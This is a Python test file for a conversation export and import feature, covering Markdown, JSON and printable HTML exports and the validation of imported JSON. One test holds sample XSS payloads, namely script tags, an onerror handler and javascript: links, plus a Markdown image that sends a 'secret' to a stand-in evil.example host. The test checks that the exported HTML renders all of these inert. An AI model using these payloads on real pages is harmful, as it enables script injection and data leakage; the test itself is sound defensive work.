"""Export a stored conversation (Markdown, JSON, printable HTML) and import the JSON back."""

from __future__ import annotations

import json
from html.parser import HTMLParser

import pytest
from sqlalchemy import func, select

from tanglebox.conversation_export import (export_html, export_json, export_markdown,
                                           import_json)
from tanglebox.conversation_store import ConversationStore
from tanglebox.database import open_database
from tanglebox.db_schema import ConversationRow

ALICE = "a" * 64
SETTINGS = {"temperature": 0.2, "maxNewTokens": 64, "systemPrompt": "Be brief.", "model": ""}


@pytest.fixture
def store(tmp_path) -> ConversationStore:
    database = open_database(f"sqlite:///{tmp_path / 'export.db'}")
    yield ConversationStore(database)
    database.close()


@pytest.fixture
def conversation(store):
    """A question, a finished reply with its provenance, and a second reply stopped early."""
    conversation = store.create(ALICE, "page", "", SETTINGS)
    question = store.add_message(conversation.id, None, "user", "What is **2 + 2**?")
    reply = store.add_message(conversation.id, question.id, "assistant", "", state="writing",
                              model="SmolLM2-135M-Instruct", template="chatml",
                              sampling={"temperature": 0.2, "maxNewTokens": 64}, seed=7)
    store.update_reply(reply.id, "It is `4`.", "done", prompt_tokens=20, completion_tokens=5,
                       cached_tokens=0, timings={"ttftMs": 12.5}, finish_reason="stop")
    follow_up = store.add_message(conversation.id, reply.id, "user", "And 3 + 3?")
    stopped = store.add_message(conversation.id, follow_up.id, "assistant", "", state="writing",
                                model="SmolLM2-135M-Instruct")
    store.update_reply(stopped.id, "It is", "stopped", "Stopped.", finish_reason="cancelled")
    return store.get(conversation.id, ALICE)


def test_markdown_has_the_title_the_system_prompt_and_each_turn(store, conversation):
    text = export_markdown(conversation, store.branch(conversation.id))
    assert text.startswith("# What is **2 + 2**?\n")
    assert "**System prompt:** Be brief." in text
    assert "### You\n\nWhat is **2 + 2**?\n" in text
    assert "### Assistant · SmolLM2-135M-Instruct\n\nIt is `4`.\n" in text
    assert text.index("And 3 + 3?") < text.index("It is\n\n*Stopped.*")


def test_json_is_openai_messages_plus_every_stored_detail(store, conversation):
    document = export_json(conversation, store.branch(conversation.id))
    json.dumps(document)  # serializable as it is
    assert document["id"] == conversation.id and document["title"] == "What is **2 + 2**?"
    assert document["messages"] == [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "What is **2 + 2**?"},
        {"role": "assistant", "content": "It is `4`."},
        {"role": "user", "content": "And 3 + 3?"},
        {"role": "assistant", "content": "It is"}]
    extra = document["tanglebox"]
    assert extra["version"] == 1 and extra["settings"] == SETTINGS
    reply = extra["messages"][1]
    assert {k: reply[k] for k in ("model", "template", "sampling", "seed", "prompt_tokens",
                                  "completion_tokens", "cached_tokens", "timings",
                                  "finish_reason", "state")} == {
        "model": "SmolLM2-135M-Instruct", "template": "chatml",
        "sampling": {"temperature": 0.2, "maxNewTokens": 64}, "seed": 7, "prompt_tokens": 20,
        "completion_tokens": 5, "cached_tokens": 0, "timings": {"ttftMs": 12.5},
        "finish_reason": "stop", "state": "done"}
    assert (extra["messages"][3]["state"], extra["messages"][3]["note"]) == ("stopped", "Stopped.")


class PageParts(HTMLParser):
    """The tags, attributes and text of a page, as a browser would parse them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend(attrs)

    def handle_data(self, data):
        self.text.append(data)


def page_parts(html: str) -> PageParts:
    parts = PageParts()
    parts.feed(html)
    return parts


def test_html_is_a_standalone_page_with_the_markdown_rendered(store, conversation):
    html = export_html(conversation, store.branch(conversation.id))
    parts = page_parts(html)
    assert html.startswith("<!doctype html>")
    assert "<strong>2 + 2</strong>" in html and "<code>4</code>" in html
    assert "Be brief." in "".join(parts.text) and "Stopped." in "".join(parts.text)
    assert "link" not in parts.tags and "script" not in parts.tags  # nothing to fetch or run


def test_hostile_text_exports_inert(store):
    hostile = store.create(ALICE, "page", "", {"systemPrompt": "<img src=x onerror=alert(1)>"})
    question = store.add_message(hostile.id, None, "user",
                                 "<script>alert('user')</script> [click](javascript:alert(1))")
    store.add_message(hostile.id, question.id, "assistant",
                      "<script>alert('model')</script>\n\n[me](javascript:alert(2)) "
                      "![x](https://evil.example/?q=secret)")
    store.rename(hostile.id, ALICE, "</title><script>alert('title')</script>")
    conversation = store.get(hostile.id, ALICE)
    parts = page_parts(export_html(conversation, store.branch(hostile.id)))
    assert "script" not in parts.tags and "img" not in parts.tags
    assert not [value for name, value in parts.attributes
                if name.startswith("on") or "javascript:" in (value or "")
                or "evil.example" in (value or "") and name == "src"]
    assert "<script>alert('model')</script>" in "".join(parts.text)  # shown as text


def test_an_export_imports_back_as_a_new_conversation_with_its_details(store, conversation):
    document = export_json(conversation, store.branch(conversation.id))
    copy = import_json(store, "b" * 64, "page", "", json.loads(json.dumps(document)))
    assert copy.id != conversation.id and copy.owner == "b" * 64
    assert copy.title == conversation.title and copy.settings == SETTINGS
    original, imported = store.branch(conversation.id), store.branch(copy.id)
    fields = ("role", "content", "state", "note", "model", "template", "sampling", "seed",
              "prompt_tokens", "completion_tokens", "cached_tokens", "timings", "finish_reason")
    assert [[getattr(m, f) for f in fields] for m in imported] == \
        [[getattr(m, f) for f in fields] for m in original]
    assert [c.id for c in store.list("b" * 64, "page", "")] == [copy.id]


def test_plain_openai_messages_import_with_the_system_prompt_as_a_setting(store):
    copy = import_json(store, ALICE, "widget", "https://a.example", {"messages": [
        {"role": "system", "content": "You are terse."},
        {"role": "user", "content": [{"type": "text", "text": "Hi "}, {"type": "text",
                                                                       "text": "there"}]},
        {"role": "assistant", "content": "Hello."}]})
    assert copy.settings == {"systemPrompt": "You are terse."} and copy.title == "Hi there"
    assert [(m.role, m.content, m.state) for m in store.branch(copy.id)] == [
        ("user", "Hi there", "done"), ("assistant", "Hello.", "done")]
    assert (copy.surface, copy.site) == ("widget", "https://a.example")


def test_a_reply_exported_while_writing_imports_as_interrupted(store, conversation):
    document = export_json(conversation, store.branch(conversation.id))
    document["tanglebox"]["messages"][3]["state"] = "writing"
    copy = import_json(store, ALICE, "page", "", document)
    last = store.branch(copy.id)[-1]
    assert (last.state, last.note) == ("interrupted", "Interrupted")


def test_an_imported_max_new_tokens_is_held_to_the_limit(store):
    copy = import_json(store, ALICE, "page", "", {
        "messages": [{"role": "user", "content": "hi"}],
        "tanglebox": {"version": 1, "settings": {"maxNewTokens": 10**9}, "messages": None}},
        max_new_tokens_limit=512)
    assert copy.settings == {"maxNewTokens": 512}


@pytest.mark.parametrize("document, field", [
    ([], "the file must hold a JSON object"),
    ({}, "messages: must be a non-empty list"),
    ({"messages": []}, "messages: must be a non-empty list"),
    ({"messages": ["hi"]}, "messages[0]: must be an object"),
    ({"messages": [{"role": "tool", "content": "x"}]}, "messages[0].role: must be"),
    ({"messages": [{"role": "user", "content": "a"}, {"role": "system", "content": "b"}]},
     "messages[1].role"),
    ({"messages": [{"role": "user", "content": 5}]}, "messages[0].content: must be text"),
    ({"messages": [{"role": "user", "content": [{"type": "image_url"}]}]},
     "messages[0].content"),
    ({"messages": [{"role": "user", "content": "a"}], "title": 3}, "title: must be a string"),
    ({"messages": [{"role": "user", "content": "a"}], "tanglebox": []},
     "tanglebox: must be an object"),
    ({"messages": [{"role": "user", "content": "a"}],
      "tanglebox": {"settings": {"temperature": 9}}}, "tanglebox.settings.temperature"),
    ({"messages": [{"role": "user", "content": "a"}],
      "tanglebox": {"settings": {"maxNewTokens": "lots"}}}, "tanglebox.settings.maxNewTokens"),
    ({"messages": [{"role": "user", "content": "a"}], "tanglebox": {"messages": [{}, {}]}},
     "tanglebox.messages: must be a list of 1"),
    ({"messages": [{"role": "user", "content": "a"}],
      "tanglebox": {"messages": [{"state": "dreaming"}]}}, "tanglebox.messages[0].state"),
    ({"messages": [{"role": "user", "content": "a"}],
      "tanglebox": {"messages": [{"seed": "seven"}]}},
     "tanglebox.messages[0].seed: must be a whole number"),
    ({"messages": [{"role": "user", "content": "a"}],
      "tanglebox": {"messages": [{"timings": [1]}]}},
     "tanglebox.messages[0].timings: must be an object"),
])
def test_a_wrong_document_is_a_value_error_naming_the_field_and_stores_nothing(
        store, document, field):
    with pytest.raises(ValueError) as refused:
        import_json(store, ALICE, "page", "", document)
    assert field in str(refused.value)
    with store.database.session() as session:
        assert session.scalar(select(func.count()).select_from(ConversationRow)) == 0
